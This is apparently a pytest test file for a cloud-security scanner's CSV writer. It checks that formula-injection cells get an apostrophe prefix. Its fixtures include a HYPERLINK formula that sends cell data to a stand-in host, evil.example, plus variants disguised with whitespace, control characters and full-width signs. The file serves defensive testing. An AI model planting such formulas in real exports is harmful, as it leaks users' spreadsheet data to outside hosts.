"""CSV reports against formula injection (OWASP's CSV injection guidance): a cell a spreadsheet could read as a formula
starts with an apostrophe, whatever whitespace, control character, separator or full-width sign leads it."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest

from checks import BUILTIN
from scanner.model import Compliance, Evaluation
from scanner.outputs.findings import Finding
from scanner.outputs.reports import CsvWriter

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def written(tmp_path: Path, resource_id: str, annotation: str) -> dict[str, str]:
    """One finding through the CSV writer, read back with the csv module as a spreadsheet import would."""
    path = tmp_path / "report.csv"
    writer = CsvWriter(path)
    evaluation = Evaluation(
        "123456789012", "us-east-1", "restricted-ssh", "AWS::EC2::SecurityGroup", resource_id,
        Compliance.NON_COMPLIANT, annotation, datetime(2026, 1, 1, tzinfo=UTC),
    )  # fmt: skip
    writer.write(Finding(evaluation, BUILTIN.get("restricted-ssh")))
    writer.close({})
    with path.open(newline="", encoding="utf-8") as rows:
        (row,) = list(csv.DictReader(rows))
    return row


@pytest.mark.parametrize(
    "cell",
    [
        pytest.param(f";{FORMULA}", id="semicolon"),
        pytest.param(f"|{FORMULA}", id="pipe"),
        pytest.param(f" {FORMULA}", id="space"),
        pytest.param(f"   \t{FORMULA}", id="spaces-and-tab"),
        pytest.param(f"\n{FORMULA}", id="line-feed"),
        pytest.param("\u3000=1+2", id="ideographic-space"),
        pytest.param("\ufeff=1+2", id="byte-order-mark"),
        pytest.param("\x00=1+2", id="nul"),
        pytest.param("\uff1dHYPERLINK(1)", id="fullwidth-equals"),
        pytest.param("\uff0b1+cmd", id="fullwidth-plus"),
        pytest.param("\uff0d1+cmd", id="fullwidth-minus"),
        pytest.param("\uff20SUM(A1)", id="fullwidth-at"),
        pytest.param(" \uff1d1", id="space-fullwidth-equals"),
        pytest.param("\n", id="bare-line-feed"),
    ],
)
def test_a_cell_a_spreadsheet_could_run_gets_an_apostrophe(tmp_path: Path, cell: str) -> None:
    row = written(tmp_path, cell, cell)
    assert row["resource_id"] == "'" + cell
    assert row["annotation"] == "'" + cell
    # Nothing else in the row was touched.
    assert (row["check"], row["compliance"], row["region"]) == ("restricted-ssh", "NON_COMPLIANT", "us-east-1")


ORDINARY = [
    "sg-0123456789abcdef0",
    "port 22 is open to 0.0.0.0/0",
    " leading space, then words",
    "a;b|c=d+e-f@g",
    "1-2",
    "\uff21BC fullwidth letters",
    "'already quoted",
]
# OWASP's own list, which the writer covered already, and what it missed: each gets its apostrophe, in one report.
TRIGGERED = [f"={FORMULA}", "+1+cmd", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1", f"\r\n{FORMULA}", f";{FORMULA}", " =1"]


def test_one_report_quotes_what_a_spreadsheet_could_run_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    writer = CsvWriter(path)
    cells = ORDINARY + TRIGGERED
    for cell in cells:
        evaluation = Evaluation(
            "123456789012", "us-east-1", "restricted-ssh", "AWS::EC2::SecurityGroup", cell,
            Compliance.NON_COMPLIANT, cell, datetime(2026, 1, 1, tzinfo=UTC),
        )  # fmt: skip
        writer.write(Finding(evaluation, BUILTIN.get("restricted-ssh")))
    writer.close({})
    with path.open(newline="", encoding="utf-8") as rows:
        read = [(row["resource_id"], row["annotation"]) for row in csv.DictReader(rows)]
    assert read == [(cell, cell) for cell in ORDINARY] + [("'" + cell, "'" + cell) for cell in TRIGGERED]
